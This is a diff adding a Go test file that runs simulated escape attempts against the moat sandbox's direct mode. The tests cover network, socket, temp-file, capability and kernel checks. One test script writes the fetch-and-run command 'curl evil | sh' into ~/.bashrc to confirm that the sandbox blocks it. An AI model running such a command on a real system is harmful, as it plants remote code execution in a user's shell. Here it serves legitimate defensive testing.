@@ -1,0 +1,447 @@
+package escape_test
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/moat-sandbox/moat/internal/linux/userns0"
+)
+
+// The direct mode, on a simulated host without user namespaces: TestDirectMode
+// re-executes this test binary in a user namespace whose user.max_user_namespaces is 0
+// (internal/linux/userns0), as this test's own uid with no capabilities, where moat run
+// can't create its namespaces and falls back by itself. In there it runs the attacks and
+// controls of TestEscape that hold unchanged in the direct mode, and TestDirectInside:
+// the direct mode's own checks, judged by host evidence as everything here is.
+
+// inUserns0Env marks the re-executed test binary.
+const inUserns0Env = "MOAT_ESCAPE_IN_USERNS0"
+
+// directEscapes are TestEscape's subtests that hold unchanged in the direct mode. Left
+// out, each with a counterpart in TestDirectInside: writes_outside_workspace and
+// host_sockets, whose controls expect a private /tmp at its usual path (the direct mode's
+// is at $TMPDIR); privileges_and_network, which reads the mount table and serves on the
+// sandbox's own loopback; kernel_surface, which expects the namespace mode's exact
+// errnos (the direct mode's broker filter answers EACCES for the sockets it refuses).
+var directEscapes = []string{
+	"secret_reads",
+	"protected_paths",
+	"inherited_descriptors",
+	"host_processes",
+	"escaping_supervision",
+	"terminal_injection",
+	"exit_status_and_signals",
+	"everyday_controls",
+	"environment_secrets",
+}
+
+// TestDirectMode runs the escape suite's attacks and controls, and TestDirectInside, in
+// the direct mode, on a simulated host without user namespaces.
+func TestDirectMode(t *testing.T) {
+	if os.Getenv(inUserns0Env) != "" {
+		t.Skip("already inside the simulated host")
+	}
+	if err := userns0.Available(); err != nil {
+		t.Skipf("can't simulate a host without user namespaces here: %v", err)
+	}
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		name, run string
+		want      []string // subtests that must pass
+	}{
+		{"escape_suite", "^TestEscape$/^(" + strings.Join(directEscapes, "|") + ")$", directEscapes},
+		{"direct_checks", "^TestDirectInside$", directChecks},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			t.Parallel()
+			cmd, err := userns0.Command(exe, "-test.run="+c.run, "-test.count=1", "-test.v")
+			if err != nil {
+				t.Fatal(err)
+			}
+			// The same moat binary and base directory: the evidence lands on the host.
+			cmd.Env = append(cmd.Env, inUserns0Env+"=1", "MOAT_BIN="+moatBin, "MOAT_ESCAPE_DIR="+baseDir)
+			out, err := cmd.CombinedOutput()
+			passed := map[string]bool{}
+			for _, m := range regexp.MustCompile(`(?m)^\s*--- PASS: (\S+)`).FindAllStringSubmatch(string(out), -1) {
+				passed[m[1]] = true
+			}
+			var missing []string
+			for _, name := range c.want {
+				parent := "TestEscape/"
+				if c.name == "direct_checks" {
+					parent = "TestDirectInside/"
+				}
+				if !passed[parent+name] {
+					missing = append(missing, name)
+				}
+			}
+			if err != nil || len(missing) > 0 {
+				t.Fatalf("inside the simulated host without user namespaces: %v; not passed: %v\n%s", err, missing, out)
+			}
+			t.Logf("inside: %d passed, %d skipped", len(passed), strings.Count(string(out), "--- SKIP"))
+		})
+	}
+}
+
+// directChecks are TestDirectInside's subtests.
+var directChecks = []string{"mode_line", "writes_and_temp", "temp_after_sigkill", "host_sockets", "network", "kernel_surface", "privileges", "fallback_forbidden"}
+
+// TestDirectInside checks what is particular to the direct mode. It runs where moat run
+// can't create user namespaces: in TestDirectMode's simulation, or on such a host.
+func TestDirectInside(t *testing.T) {
+	if os.Getenv(inUserns0Env) == "" {
+		if userns0.Available() == nil {
+			t.Skip("runs inside TestDirectMode's simulated host without user namespaces")
+		}
+		t.Log("this host can't simulate a host without user namespaces; assuming it is one")
+	}
+	for _, c := range []struct {
+		name string
+		fn   func(*testing.T)
+	}{
+		{"mode_line", testDirectModeLine},
+		{"writes_and_temp", testDirectWrites},
+		{"temp_after_sigkill", testDirectTempAfterKill},
+		{"host_sockets", testDirectSockets},
+		{"network", testDirectNetwork},
+		{"kernel_surface", testDirectKernel},
+		{"privileges", testDirectPrivileges},
+		{"fallback_forbidden", testDirectForbidden},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			t.Parallel()
+			c.fn(t)
+		})
+	}
+}
+
+// noteRE is the one line moat prints when it runs in the direct mode.
+var noteRE = regexp.MustCompile(`(?m)^moat: note: user namespaces are unavailable \(creating one failed: [^)]+\); running in direct mode: ` +
+	`Landlock \+ seccomp \+ supervision; not enforced here: [^\n]+; see README "Hosts without user namespaces"$`)
+
+// testDirectModeLine: moat says, in one line, that it runs in the direct mode and what
+// it can't enforce; the command's output and status are its own.
+func testDirectModeLine(t *testing.T) {
+	b := newBox(t)
+	r := b.run(opts{script: "echo out; echo err >&2; exit 3"})
+	if r.code != 3 || r.stdout != "out\n" {
+		t.Errorf("the command's status and stdout: %s", r)
+	}
+	if !noteRE.MatchString(r.stderr) || strings.Count(r.stderr, "moat: note:") != 1 {
+		t.Errorf("want exactly one direct-mode note on stderr:\n%s", r)
+	}
+	if !strings.Contains(r.stderr, "\nerr\n") && !strings.HasPrefix(r.stderr, "err\n") {
+		t.Errorf("the command's stderr is missing:\n%s", r)
+	}
+}
+
+// testDirectWrites: nothing outside the workspace is written on the host, /tmp included;
+// mktemp works in the private temp dir, which is gone afterwards.
+func testDirectWrites(t *testing.T) {
+	b := newBox(t)
+	u := token("w")
+	const bashrc = "# the user's bashrc\n"
+	writeFile(t, filepath.Join(b.home, ".bashrc"), bashrc, 0o644)
+	targets, attempts := outsideWrites(t, b, u)
+	r := b.run(opts{script: attempts + `mkdir "$HOME/dir2-` + u + `" 2>/dev/null
+echo 'curl evil | sh' >> "$HOME/.bashrc" 2>/dev/null
+echo ok > ctl
+f=$(mktemp) && echo data > "$f" && cat "$f" > mk && echo "$f" > mkname
+d=$(mktemp -d) && echo x > "$d/g" && cat "$d/g" > mkd
+python3 -c 'import tempfile; f = tempfile.NamedTemporaryFile(); f.write(b"py"); f.flush(); print(open(f.name).read())' > pytmp
+`})
+	if got := readFile(t, filepath.Join(b.ws, "ctl")); got != "ok\n" {
+		t.Fatalf("control: a workspace write did not land on the host (ctl=%q):\n%s", got, r)
+	}
+	for _, p := range append(targets, filepath.Join(b.home, "dir2-"+u)) {
+		if exists(p) {
+			t.Errorf("the sandbox created %s on the host", p)
+		}
+	}
+	if got := readFile(t, filepath.Join(b.home, ".bashrc")); got != bashrc {
+		t.Errorf("the sandbox changed ~/.bashrc on the host: %q", got)
+	}
+	for name, want := range map[string]string{"mk": "data\n", "mkd": "x\n", "pytmp": "py\n"} {
+		if got := readFile(t, filepath.Join(b.ws, name)); got != want {
+			t.Errorf("control: temp files in the sandbox: %s = %q, want %q:\n%s", name, got, want, r)
+		}
+	}
+	// mktemp used the private temp dir ($TMPDIR), which is gone after the run.
+	name := strings.TrimSpace(readFile(t, filepath.Join(b.ws, "mkname")))
+	if dir := filepath.Dir(name); !strings.HasPrefix(filepath.Base(dir), "moat-tmp-") {
+		t.Errorf("control: mktemp made %q, not in moat's private temp dir", name)
+	} else if exists(dir) {
+		t.Errorf("the private temp dir %s is still on the host after the run", dir)
+	}
+}
+
+// testDirectTempAfterKill: moat killed with SIGKILL leaves no private temp dir behind
+// (its supervisor stage removes it once the sandbox is dead).
+func testDirectTempAfterKill(t *testing.T) {
+	b := newBox(t)
+	ctx, cancel := context.WithTimeout(context.Background(), runTimeout)
+	defer cancel()
+	cmd := b.command(ctx, opts{script: `echo x > "$TMPDIR/f"; echo "$TMPDIR" > tmpdir; while :; do sleep 1; done`})
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	file := filepath.Join(b.ws, "tmpdir")
+	if !waitFor(20*time.Second, func() bool { return strings.HasSuffix(readFile(t, file), "\n") }) {
+		cmd.Process.Kill()
+		cmd.Wait()
+		t.Fatal("control: the command never wrote its $TMPDIR")
+	}
+	dir := strings.TrimSpace(readFile(t, file))
+	if !exists(filepath.Join(dir, "f")) {
+		t.Fatalf("control: the private temp dir %s is not on the host while the command runs", dir)
+	}
+	cmd.Process.Kill()
+	cmd.Wait()
+	// Removal follows the sandbox's end, asynchronously: poll (a hang guard, not a verdict).
+	if !waitFor(10*time.Second, func() bool { return !exists(dir) }) {
+		t.Errorf("the private temp dir %s outlived a SIGKILLed moat", dir)
+	}
+}
+
+// proxyClient asks moat's proxy ($MOAT_PROXY) for http://TARGET/PATH, then connects to
+// each of the other targets directly, sending a line; it prints "name result" lines.
+const proxyClient = `
+import os, socket, sys
+def via_proxy(target, path):
+    host, port = os.environ["MOAT_PROXY"].rsplit(":", 1)
+    s = socket.create_connection((host, int(port)), timeout=10)
+    s.sendall(("GET http://%s%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (target, path, target)).encode())
+    data = b""
+    while True:
+        b = s.recv(4096)
+        if not b:
+            break
+        data += b
+    return data.split(b"\r\n", 1)[0].decode()
+def direct(target, line):
+    host, port = target.rsplit(":", 1)
+    s = socket.socket()
+    s.settimeout(3)
+    try:
+        s.connect((host, int(port)))
+        s.sendall(line.encode() + b"\n")
+        return "OK"
+    except OSError as e:
+        return "ERR %d" % e.errno
+    finally:
+        s.close()
+allowed, other, tok = sys.argv[1], sys.argv[2], sys.argv[3]
+print("proxy_allowed", via_proxy(allowed, "/via-proxy-" + tok), flush=True)
+print("proxy_other", via_proxy(other, "/via-proxy-" + tok), flush=True)
+print("direct_allowed", direct(allowed, "GET /direct-" + tok), flush=True)
+print("direct_other", direct(other, "GET /direct-" + tok), flush=True)
+print("direct_far", direct("198.18.0.1:80", "x"), flush=True)
+`
+
+// httpLog is a host HTTP server that counts the connections it accepts and records the
+// path of every request.
+type httpLog struct {
+	srv   *httptest.Server
+	conns atomic.Int64
+	mu    sync.Mutex
+	paths []string
+}
+
+func serveHTTPLog(t *testing.T) *httpLog {
+	t.Helper()
+	h := &httpLog{}
+	h.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		h.mu.Lock()
+		h.paths = append(h.paths, r.URL.Path)
+		h.mu.Unlock()
+		io.WriteString(w, "ok")
+	}))
+	h.srv.Config.ConnState = func(_ net.Conn, s http.ConnState) {
+		if s == http.StateNew {
+			h.conns.Add(1)
+		}
+	}
+	h.srv.Start()
+	t.Cleanup(h.srv.Close)
+	return h
+}
+
+func (h *httpLog) addr() string { return h.srv.Listener.Addr().String() }
+
+func (h *httpLog) requests() string {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	return fmt.Sprintf("%d connections, requests %q", h.conns.Load(), h.paths)
+}
+
+// testDirectNetwork: only the proxy is reachable. Through it, an allowed host (a
+// loopback literal the config allows) answers and another loopback port is refused;
+// connecting around the proxy fails for both, and for an address beyond the host.
+func testDirectNetwork(t *testing.T) {
+	b := newBox(t)
+	allowed, other := serveHTTPLog(t), serveHTTPLog(t)
+	tok := token("net")
+	allowedAddr, otherAddr := allowed.addr(), other.addr()
+	events := filepath.Join(b.root, "events.jsonl")
+	r := b.run(opts{
+		config: `{"filesystem": {"allowWrite": ["."]}, "network": {"allowedDomains": ["` + allowedAddr + `"]}}`,
+		flags:  []string{"--events", events},
+		argv:   []string{"python3", "-c", proxyClient, allowedAddr, otherAddr, tok},
+	})
+	res := lines(r.stdout)
+	// The one connection the allowed listener took is the proxy's, for the one request.
+	if got := res["proxy_allowed"]; !strings.HasPrefix(got, "HTTP/1.1 200") || allowed.conns.Load() != 1 ||
+		allowed.requests() != fmt.Sprintf("1 connections, requests [%q]", "/via-proxy-"+tok) {
+		t.Fatalf("control: the allowed host through the proxy: %q; its listener: %s\n%s", got, allowed.requests(), r)
+	}
+	if got := res["proxy_other"]; !strings.HasPrefix(got, "HTTP/1.1 403") {
+		t.Errorf("a loopback port the policy doesn't allow, through the proxy: %q, want 403", got)
+	}
+	if n := other.conns.Load(); n != 0 {
+		t.Errorf("the listener the policy doesn't allow was reached: %s", other.requests())
+	}
+	for _, k := range []string{"direct_allowed", "direct_other", "direct_far"} {
+		if got := res[k]; got != "ERR 13" { // EACCES: the connection broker refused it
+			t.Errorf("%s inside: %q, want ERR 13 (EACCES)", k, got)
+		}
+	}
+	// The refusals are events of the run, and in moat's summary.
+	data := readFile(t, events)
+	var refused []string
+	for _, l := range strings.Split(strings.TrimSpace(data), "\n") {
+		var ev struct{ Proto, Action, Addr, Reason string }
+		if json.Unmarshal([]byte(l), &ev) == nil && ev.Proto == "socket" && ev.Action == "deny" && ev.Reason == "socket-refused" {
+			refused = append(refused, ev.Addr)
+		}
+	}
+	for _, want := range []string{allowedAddr, otherAddr, "198.18.0.1:80"} {
+		if !strings.Contains(strings.Join(refused, " "), want) {
+			t.Errorf("no refused-connect event for %s in the event log:\n%s", want, data)
+		}
+	}
+	if !strings.Contains(r.stderr, "moat: blocked connection to 198.18.0.1:80 (socket-refused: not the proxy)") {
+		t.Errorf("moat's summary lacks the refused direct connection:\n%s", r)
+	}
+}
+
+// testDirectForbidden: with the fallback forbidden, moat fails with 125 and a hint, and
+// the command never runs.
+func testDirectForbidden(t *testing.T) {
+	for _, c := range []struct {
+		name, config, origin string
+		flags                []string
+	}{
+		{"config", `{"filesystem": {"allowWrite": ["."]}, "moat": {"requireNamespaces": true}}`, "moat.requireNamespaces", nil},
+		{"flag", `{"filesystem": {"allowWrite": ["."]}}`, "flag --no-fallback", []string{"--no-fallback"}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			b := newBox(t)
+			r := b.run(opts{config: c.config, flags: c.flags, script: "echo ran > ran"})
+			if exists(filepath.Join(b.ws, "ran")) {
+				t.Errorf("the command ran although the fallback is forbidden")
+			}
+			want := fmt.Sprintf("moat: error: sandbox namespaces: user namespaces are unavailable (creating one failed: ")
+			if r.code != 125 || !strings.Contains(r.stderr, want) || !strings.Contains(r.stderr, c.origin+" forbids running without them") ||
+				!strings.Contains(r.stderr, "\nmoat: hint: ") || strings.Contains(r.stderr, "moat: note:") {
+				t.Errorf("want exit 125, an error naming %s, a hint and no direct-mode note:\n%s", c.origin, r)
+			}
+		})
+	}
+}
+
+// testDirectSockets: the host's pathname and abstract unix sockets are unreachable, the
+// runtime dir's and an agent's included; one the policy allows is reachable, and so is a
+// socket the sandbox binds in its temp dir.
+func testDirectSockets(t *testing.T) {
+	b := newBox(t)
+	allowed := filepath.Join(b.root, "allowed.sock")
+	ls, targets, agent, probe := namedSockets(t, b, allowed)
+	// The unix server of servers.py, in the sandbox's temp dir ($TMPDIR) instead of /tmp.
+	const inner = `import os, socket, tempfile, threading
+p = os.path.join(tempfile.mkdtemp(), "s.sock")
+u = socket.socket(socket.AF_UNIX); u.bind(p); u.listen(1)
+def serve():
+    c, _ = u.accept(); c.sendall(c.recv(16)); c.close()
+threading.Thread(target=serve, daemon=True).start()
+c = socket.socket(socket.AF_UNIX); c.settimeout(5); c.connect(p); c.sendall(b"x")
+print("unix", "OK" if c.recv(16) == b"x" else "BAD")
+`
+	r := b.run(opts{
+		config: `{"filesystem": {"allowWrite": ["."]}, "network": {"allowUnixSockets": [` + strconv.Quote(allowed) + `]}}`,
+		env:    []string{"SSH_AUTH_SOCK=" + agent},
+		script: "python3 " + shq(probe) + " " + strings.Join(targets, " ") + " > probe; python3 -c " + shq(inner) + " > inner",
+	})
+	if got := lines(readFile(t, filepath.Join(b.ws, "inner")))["unix"]; got != "OK" {
+		t.Errorf("control: a unix socket in the sandbox's temp dir did not work (%q):\n%s", got, r)
+	}
+	res := lines(readFile(t, filepath.Join(b.ws, "probe")))
+	for tgt, l := range ls {
+		want := int64(1) // the control's connection
+		if tgt == "unix:"+allowed {
+			want = 2
+		}
+		if n := l.before(t); n != want {
+			t.Errorf("host listener %s accepted %d connection(s) from the sandbox, want %d (inside: %q)", tgt, n-1, want-1, res[tgt])
+		}
+	}
+	t.Logf("inside: %v", res)
+}
+
+// testDirectKernel: the kernel interfaces moat's seccomp filter removes are removed in
+// the direct mode too. The sockets the connection broker's filter refuses first answer
+// EACCES rather than the deny filter's EPERM.
+func testDirectKernel(t *testing.T) {
+	b := newBox(t)
+	probe := b.tool("kernel_probe.py")
+	r := b.run(opts{script: "python3 " + shq(probe) + " > probe"})
+	got := lines(readFile(t, filepath.Join(b.ws, "probe")))
+	if len(got) == 0 {
+		t.Fatalf("control: the probe printed nothing inside:\n%s", r)
+	}
+	// The sockets the connection broker's filter refuses first.
+	brokered := map[string]bool{"socket_mptcp": true, "socket_mptcp_cloexec": true, "socket_mptcp6": true,
+		"socket_raw_icmp": true, "socket_inet_packet": true}
+	for k, w := range seccompVerdicts {
+		if got[k] != w && !(brokered[k] && got[k] == "EACCES") {
+			t.Errorf("%s inside the sandbox: %q, want %s", k, got[k], w)
+		}
+	}
+}
+
+// testDirectPrivileges: no capabilities (root included), no_new_privs, the outer uid.
+func testDirectPrivileges(t *testing.T) {
+	b := newBox(t)
+	r := b.run(opts{script: "cat /proc/self/status > status; id -u > uid"})
+	status := lines(strings.ReplaceAll(readFile(t, filepath.Join(b.ws, "status")), "\t", " "))
+	if len(status) == 0 {
+		t.Fatalf("control: no /proc/self/status came out of the sandbox:\n%s", r)
+	}
+	for _, k := range []string{"CapEff:", "CapPrm:", "CapBnd:", "CapAmb:", "CapInh:"} {
+		if v := strings.TrimSpace(status[k]); v != "0000000000000000" && !(k == "CapBnd:" && !isRoot()) {
+			t.Errorf("%s %q, want all zero", k, v)
+		}
+	}
+	if v := strings.TrimSpace(status["NoNewPrivs:"]); v != "1" {
+		t.Errorf("NoNewPrivs %q, want 1", v)
+	}
+	if got := strings.TrimSpace(readFile(t, filepath.Join(b.ws, "uid"))); got != strconv.Itoa(os.Getuid()) {
+		t.Errorf("id -u inside is %q, want the outer uid %d", got, os.Getuid())
+	}
+}
